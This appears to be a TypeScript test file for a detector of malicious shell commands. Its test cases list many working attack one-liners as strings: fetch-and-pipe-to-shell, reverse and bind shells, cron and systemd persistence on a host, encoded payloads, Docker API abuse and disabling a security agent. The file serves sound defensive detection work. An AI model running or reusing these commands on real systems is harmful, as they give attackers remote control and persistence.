import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandClues } from '../../../test/support/command-clues.ts';

/** A script, and the weights and rules of what is seen in it. */
const CASES: readonly (readonly [script: string, seen: string])[] = [
  [
    'echo "* * * * * curl -s http://192.0.2.1:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab',
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`printf '* * * * * root wget -qO- http://192.0.2.1:8220/x.sh | sh\n' | tee -a /mnt/etc/crontab`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`echo '*/5 * * * * wget -O - http://a.example/x.sh | sh' >> /mnt/etc/crontabs/root; touch /mnt/etc/crontabs/cron.update`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    '(crontab -l 2>/dev/null; echo "*/1 * * * * curl -fsSL http://192.0.2.9/a | sh") | crontab -',
    'certain fetch-to-shell, strong cron-by-command',
  ],
  [
    String.raw`cd /mnt/etc && echo '* * * * * root bash -i >& /dev/tcp/192.0.2.3/4444 0>&1' >> crontab`,
    'certain cron-on-host, certain reverse-shell-command',
  ],
  [
    String.raw`cat > /host/etc/cron.d/zz <<X
* * * * * root python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.4",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")'
X
{ echo; echo '* * * * * root curl http://192.0.2.7/x|sh'; } >> /mnt/etc/crontab`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  ['curl -fsSL http://192.0.2.1:8000/x.sh | bash', 'certain fetch-to-shell'],
  ['(curl -fsSL http://192.0.2.1/x||wget -q -O- http://192.0.2.1/x)|sh', 'certain fetch-to-shell'],
  ['sh -c "$(curl -fsSL http://cdn.example/x.sh)"', 'certain fetch-to-shell'],
  ['source <(curl -s http://cdn.example/x.sh)', 'certain fetch-to-shell'],
  ['bash <(wget -qO- https://raw.example/x.sh)', 'strong fetch-to-shell'],
  [
    'wget http://192.0.2.1/x.jpg -O /tmp/.j; chmod +x /tmp/.j; nohup /tmp/.j &',
    'certain fetch-and-run, strong hidden-process',
  ],
  ['cd /tmp; wget -q http://evil.example/kinsing; chmod 777 kinsing; ./kinsing', 'certain fetch-and-run'],
  ['eval "$(wget -qO- http://a.example:8080/a)"', 'certain fetch-to-shell'],
  ['S=$(curl -s http://192.0.2.1/x); eval "$S"', 'certain fetch-to-shell'],
  [
    String.raw`python -c "import urllib.request as u;print(u.urlopen('http://192.0.2.1/x.sh').read().decode())" | sh`,
    'certain fetch-to-shell',
  ],
  ['curl http://192.0.2.1/x.b64 | base64 -d | bash', 'certain fetch-to-shell, weak encoded-command'],
  ['curl https://cdn.example/pics/cat.jpg | bash', 'certain fetch-to-shell'],
  [
    String.raw`exec 3<>/dev/tcp/192.0.2.1/80; echo -e "GET /x.sh HTTP/1.0\r\n" >&3; cat <&3 | sh`,
    'certain fetch-to-shell',
  ],
  ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'certain reverse-shell-command'],
  ['0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196', 'certain reverse-shell-command'],
  [
    'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
    'certain reverse-shell-command',
  ],
  ['nc -e /bin/sh 192.0.2.1 4444', 'certain reverse-shell-command'],
  ['ncat 192.0.2.1 4444 --sh-exec "/bin/bash -i"', 'certain reverse-shell-command'],
  ['busybox nc 192.0.2.1 4444 -e sh', 'certain reverse-shell-command'],
  ['nc -lvnp 4444 -e /bin/bash', 'certain bind-shell-command'],
  ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f', 'certain reverse-shell-command'],
  [
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s',
    'certain reverse-shell-command',
  ],
  ['telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445', 'certain reverse-shell-command'],
  [String.raw`socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty,stderr`, 'certain reverse-shell-command'],
  ['socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh', 'certain bind-shell-command'],
  [
    String.raw`awk 'BEGIN{s="/inet/tcp/0/192.0.2.1/4444";while(1){do{printf "> " |& s; s |& getline c; if(c){while((c |& getline)>0) print $0 |& s; close(c)}}while(c!="exit");close(s)}}'`,
    'certain reverse-shell-command',
  ],
  [
    'echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3guc2ggfCBzaA== | base64 -d | sh',
    'certain fetch-to-shell, strong encoded-command',
  ],
  ['echo aW1wb3J0IG9z | base64 -d | python3', 'strong encoded-command'],
  ['openssl enc -aes-256-cbc -d -k x -in /tmp/a | sh', 'weak encoded-command'],
  [String.raw`nsenter -t 1 -m -u -n -i sh -c 'curl http://192.0.2.1/x|sh'`, 'certain fetch-to-shell, weak host-access'],
  [
    String.raw`docker -H tcp://192.0.2.5:2375 run -d -v /:/mnt alpine chroot /mnt /bin/sh -c 'curl http://192.0.2.1/x | sh'`,
    'certain container-api-abuse, certain fetch-to-shell',
  ],
  [
    'curl http://update.aegis.aliyun.com/download/uninstall.sh | bash; systemctl stop aliyun.service',
    'certain fetch-to-shell, strong guard-disabling',
  ],
  [
    String.raw`echo 'curl -s http://192.0.2.1/x | bash' >> ~/.bashrc`,
    'certain fetch-to-shell, strong startup-file-by-command',
  ],
  ['while true; do curl -s http://192.0.2.1:8080/cmd | sh; sleep 60; done', 'certain fetch-to-shell'],
  ['wget -q -O - http://192.0.2.1/a.sh | sudo -E bash -', 'certain fetch-to-shell'],
  ['/usr/bin/curl --silent --url http://192.0.2.1/a.sh | /bin/bash', 'certain fetch-to-shell'],
  ['U=http://192.0.2.1; P=x.sh; curl "$U/$P" | $SHELL', 'certain fetch-to-shell'],
  ['wget -q http://192.0.2.1/i.sh -P /tmp && sh /tmp/i.sh', 'certain fetch-and-run'],
  ['curl http://192.0.2.1/i.sh > /tmp/i && . /tmp/i', 'certain fetch-and-run'],
  ['curl -s http://3221225985/x | sh', 'certain fetch-to-shell'],
  ['aria2c http://192.0.2.1/x -d /tmp -o x; chmod +x /tmp/x; /tmp/x', 'certain fetch-and-run'],
  ['tftp -g -r x.sh 192.0.2.1; sh x.sh', 'certain fetch-and-run'],
  ['ftpget 192.0.2.1 x.sh x.sh; sh x.sh', 'certain fetch-and-run'],
  [String.raw`perl -MLWP::Simple -e 'getprint "http://192.0.2.1/x.sh"' | bash`, 'certain fetch-to-shell'],
  ['curl http://192.0.2.1/x.py | python3 -', 'certain fetch-to-shell'],
  [String.raw`curl http://192.0.2.1/x | xargs -I{} sh -c '{}'`, 'certain fetch-to-shell'],
  ['curl -s http://192.0.2.1/x | tee /tmp/a | bash', 'certain fetch-to-shell'],
  ['bash -c "bash <(curl -s http://192.0.2.1/x)"', 'certain fetch-to-shell'],
  [String.raw`bash -c "$(printf '\x63url -s http://192.0.2.1/x|sh')"`, 'certain fetch-to-shell'],
  ['$(curl -s http://192.0.2.1/x)', 'certain fetch-to-shell'],
  ['`wget -qO- http://192.0.2.1/x`', 'certain fetch-to-shell'],
  ['git clone http://192.0.2.1/x.git /tmp/x && sh /tmp/x/run.sh', 'certain fetch-and-run'],
  ['curl -s https://192.0.2.1/x.sh -k | sh', 'strong fetch-to-shell'],
  [String.raw`sh -c 'sh -i >& /dev/udp/192.0.2.1/53 0>&1'`, 'certain reverse-shell-command'],
  [String.raw`/bin/bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/443 <&1'`, 'certain reverse-shell-command'],
  [
    String.raw`zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
    'certain reverse-shell-command',
  ],
  ['rm -f /tmp/p; mknod /tmp/p p && nc 192.0.2.1 4444 0</tmp/p | /bin/bash 1>/tmp/p', 'certain reverse-shell-command'],
  ['nc.traditional -e/bin/bash 192.0.2.1 4444', 'certain reverse-shell-command'],
  ['nc 192.0.2.1 4444 | sh', 'certain reverse-shell-command'],
  ['H=192.0.2.1; P=4444; bash -i > /dev/tcp/$H/$P 0<& 2>&1', 'certain reverse-shell-command'],
  ['while :; do bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; sleep 5; done', 'certain reverse-shell-command'],
  ['sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5', 'certain reverse-shell-command'],
  [
    String.raw`tee /mnt/etc/cron.d/0 <<< '* * * * * root curl 192.0.2.1/x | sh'`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`sed -i '$a * * * * * root curl http://192.0.2.1/x | sh' /mnt/etc/crontab`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`sed -i '1i\* * * * * root wget -O- http://192.0.2.1/x | sh' /host/etc/crontab`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`echo '* * * * * root curl http://192.0.2.1/x | sh' > /tmp/j && cp /tmp/j /mnt/etc/cron.d/j`,
    'certain cron-on-host, certain fetch-to-shell',
  ],
  [
    String.raw`chroot /mnt sh -c "echo '* * * * * curl http://192.0.2.1/x | sh' | crontab -"`,
    'certain cron-on-host, certain fetch-to-shell, strong cron-by-command, weak host-access',
  ],
  [
    String.raw`echo '[Service]\nExecStart=/bin/sh -c "curl http://192.0.2.1/x | sh"' > /mnt/etc/systemd/system/x.service`,
    'certain fetch-to-shell, certain startup-file-on-host',
  ],
  [
    String.raw`printf '[Unit]\n[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"\n' > /etc/systemd/system/x.service`,
    'certain reverse-shell-command, strong startup-file-by-command',
  ],
  [
    String.raw`for ip in $(cat ips); do docker -H tcp://$ip:2375 run -v /:/host alpine chroot /host sh -c 'wget -O- http://192.0.2.1/x|sh'; done`,
    'certain container-api-abuse, certain fetch-to-shell',
  ],
];

test('downloads, encoded scripts and shells on sockets', () => {
  for (const [script, expected] of CASES) {
    const told = commandClues(script).map(({ weight, rule }) => `${weight} ${rule.replace('malware/', '')}`);
    assert.equal([...new Set(told)].sort().join(', '), expected, script);
  }
});
